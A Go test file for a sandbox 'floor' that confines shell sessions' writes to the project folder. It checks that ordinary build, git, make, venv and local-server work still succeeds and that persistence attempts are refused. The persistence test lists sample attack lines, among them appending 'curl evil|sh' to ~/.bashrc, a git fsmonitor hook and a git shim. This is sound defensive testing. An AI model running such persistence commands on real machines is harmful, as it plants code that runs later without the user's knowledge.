package session

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nodwyn/nodwyn/internal/guard"
	"github.com/nodwyn/nodwyn/internal/sandbox"
)

// confinedSession is a fresh home (no caches yet), a folder, a temporary
// directory of its own, and the host under the floor a session outside
// sandbox mode makes (writes confined) — or none (off).
func confinedSession(t *testing.T, folderFiles map[string]string, off bool) (h *sandbox.NoSandbox, home, folder, tmp string) {
	t.Helper()
	if _, err := sandbox.LandlockABI(); err != nil {
		t.Skipf("no kernel floor here: %v", err)
	}
	base := t.TempDir()
	home, folder, tmp = filepath.Join(base, "home"), filepath.Join(base, "proj"), filepath.Join(base, "tmp")
	for _, d := range []string{home, folder, tmp} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o644)
	for name, text := range folderFiles {
		os.MkdirAll(filepath.Dir(filepath.Join(folder, name)), 0o755)
		os.WriteFile(filepath.Join(folder, name), []byte(text), 0o644)
	}
	t.Setenv("TMPDIR", tmp)
	t.Setenv("XDG_CACHE_HOME", "")
	t.Setenv("GOMODCACHE", "")
	t.Setenv("GOPATH", "")
	scratch := filepath.Join(home, ".local/share/nodwyn/scratch/s1")
	os.MkdirAll(scratch, 0o700)
	g := guard.Options{Folder: folder, Home: home, Scratch: scratch, ConfigDir: filepath.Join(home, ".config/nodwyn"), DataDir: filepath.Join(home, ".local/share/nodwyn")}
	var f *sandbox.Floor
	if !off {
		var line string
		wc := &confinement{}
		f, line, _ = makeFloor(g, false, wc)
		if f == nil {
			t.Fatalf("no floor: %s", line)
		}
		if !strings.Contains(wc.writesLine, "commands write only in the folder, ") {
			t.Errorf("the writes line %q does not say where commands write", wc.writesLine)
		}
		t.Cleanup(f.Close)
	}
	h = sandbox.NewHost(sandbox.HostOptions{Floor: f})
	t.Cleanup(func() { h.Close() })
	return h, home, folder, tmp
}

func confinedRun(t *testing.T, h *sandbox.NoSandbox, home, folder, line string, env ...string) sandbox.Output {
	t.Helper()
	env = append([]string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "TMPDIR=" + os.Getenv("TMPDIR")}, env...)
	o, err := h.Run(context.Background(), sandbox.Command{Shell: "/bin/bash", Line: line, Dir: folder, Env: env, Timeout: 120 * time.Second})
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	return o
}

// The ordinary work of issue 28's list goes through under write
// confinement, in a fresh home: go build and go test with the module cache
// made for the folder, git's commits, branches and stashes, make, a venv
// in the folder, a test's temporary files, a local server the same
// command talks to.
//
// go build/test and a venv take most of its time: they run in
// TestConfinedWritesKeepGoAndPythonWork (make test-slow); this keeps the
// rest in make test.
func TestConfinedWritesKeepOrdinaryWork(t *testing.T) {
	confinedOrdinaryWork(t, false, false)
}

// go build and go test with a warm build cache, and a venv in the folder,
// under write confinement. Some seconds: make test-slow.
func TestConfinedWritesKeepGoAndPythonWork(t *testing.T) {
	if os.Getenv("NODWYN_SLOW_TESTS") != "1" {
		t.Skip("go build, go test and a venv under the floor take seconds: make test-slow runs them (NODWYN_SLOW_TESTS=1)")
	}
	confinedOrdinaryWork(t, false, true)
}

// The same with go's build cache as a fresh home has it, none yet: go test
// compiles the standard library into ~/.cache/go-build, made before the
// floor was built, in the same command (the issue's "package testing is
// not in std"). A minute or two: make test-slow.
func TestConfinedWritesKeepOrdinaryWorkInAFreshHome(t *testing.T) {
	slowTest(t)
	confinedOrdinaryWork(t, true, true)
}

func confinedOrdinaryWork(t *testing.T, freshCache, builds bool) {
	gocache := os.Getenv("GOCACHE")
	if gocache == "" {
		out, err := exec.Command("go", "env", "GOCACHE").Output()
		if err != nil {
			t.Skipf("no go here: %v", err)
		}
		gocache = strings.TrimSpace(string(out))
	}
	goEnv := "GOCACHE=" + gocache // warm: the test builds little
	if freshCache {
		t.Setenv("GOCACHE", "")
		goEnv = "GOFLAGS=" // the home's own cache
	} else {
		t.Setenv("GOCACHE", gocache)
	}
	h, home, folder, _ := confinedSession(t, map[string]string{
		"go.mod":      "module example.com/p\n\ngo 1.22\n",
		"p.go":        "package p\n\nfunc Two() int { return 2 }\n",
		"p_test.go":   "package p\n\nimport (\"os\"; \"testing\")\n\nfunc TestTwo(t *testing.T) {\n\tif Two() != 2 { t.Fatal() }\n\tf, err := os.CreateTemp(\"\", \"x\")\n\tif err != nil { t.Fatal(err) }\n\tf.Close(); os.Remove(f.Name())\n\tos.WriteFile(t.TempDir()+\"/y\", []byte(\"y\"), 0o644)\n}\n",
		"Makefile":    "all:\n\techo built > out.txt\n",
		"pytest.toml": "",
	}, false)
	if _, err := os.Stat(filepath.Join(home, "go", "pkg", "mod")); err != nil {
		t.Errorf("the module cache of a Go folder was not made: %v", err)
	}
	var work []string
	if builds {
		work = append(work, "go build ./... && go test -count=1 ./...")
	}
	work = append(work,
		"git init -q && git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git branch b && git switch -q b && echo x >> p.go && git stash -q && git stash pop -q && git switch -q - 2>/dev/null || git checkout -q -",
		"make && cat out.txt",
		"f=$(mktemp) && echo x > $f && rm $f && mkdir -p $TMPDIR/t/u && rm -r $TMPDIR/t",
		"echo x > /dev/null; cat ~/.bashrc >/dev/null",
	)
	if _, err := exec.LookPath("python3"); err == nil {
		if builds {
			work = append(work, "python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'")
		}
		work = append(work,
			// -u: the port's line is in srv.log at once, not when python
			// exits; each step's failure is the line's.
			"python3 -u -m http.server 0 --bind 127.0.0.1 > srv.log 2>&1 & for i in $(seq 600); do p=$(grep -o 'port [0-9]*' srv.log | cut -d' ' -f2); [ -n \"$p\" ] && break; sleep 0.1; done; [ -n \"$p\" ] || exit 9; python3 -c \"import urllib.request as u; assert u.urlopen('http://127.0.0.1:$p/').status == 200\"; r=$?; kill %1; exit $r",
		)
	}
	for _, line := range work {
		if o := confinedRun(t, h, home, folder, line, goEnv); o.ExitCode != 0 {
			t.Errorf("ordinary work failed under write confinement: %s\n%s", line, o.Text())
		}
	}
}

// The persistence attempts of issue 28 each fail under write confinement,
// with a result that says why — and each goes through without the floor
// (the test can fail).
func TestConfinedWritesRefusePersistence(t *testing.T) {
	attempts := []struct{ name, line, path string }{
		{"~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc", ".bashrc"},
		{"~/.profile by python", "python3 -c \"import os; open(os.path.expanduser('~')+'/.profile','a').write('x')\"", ".profile"},
		{"~/.gitconfig fsmonitor", "git config --global core.fsmonitor 'touch /tmp/pwned'", ".gitconfig"},
		{"a git shim in ~/.local/bin", "mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/git", ".local/bin"},
		{"a systemd user unit, made in one call", "mkdir -p ~/.config/systemd/user", ".config/systemd"},
		{"a venv's activate outside the folder", "mkdir -p ~/venv/bin && echo x > ~/venv/bin/activate", "venv"},
		{"beside the folder", "echo x > ../beside.txt", "../proj-beside"},
	}
	for _, off := range []bool{false, true} {
		h, home, folder, _ := confinedSession(t, nil, off)
		for _, a := range attempts {
			o := confinedRun(t, h, home, folder, a.line)
			p := filepath.Join(home, a.path)
			if a.path == "../proj-beside" {
				p = filepath.Join(folder, "..", "beside.txt")
			}
			b, _ := os.ReadFile(filepath.Join(home, ".bashrc"))
			_, made := os.Lstat(p)
			changed := made == nil && a.path != ".bashrc" || strings.Contains(string(b), "evil")
			switch {
			case !off && changed:
				t.Errorf("%s: went through under the floor\n%s", a.name, o.Text())
			case !off && !strings.Contains(o.Text(), "may write only in the folder"):
				t.Errorf("%s: the result does not say the rule:\n%s", a.name, o.Text())
			case off && !changed:
				t.Errorf("%s: did not go through without the floor either (the test cannot fail)\n%s", a.name, o.Text())
			}
		}
	}
}
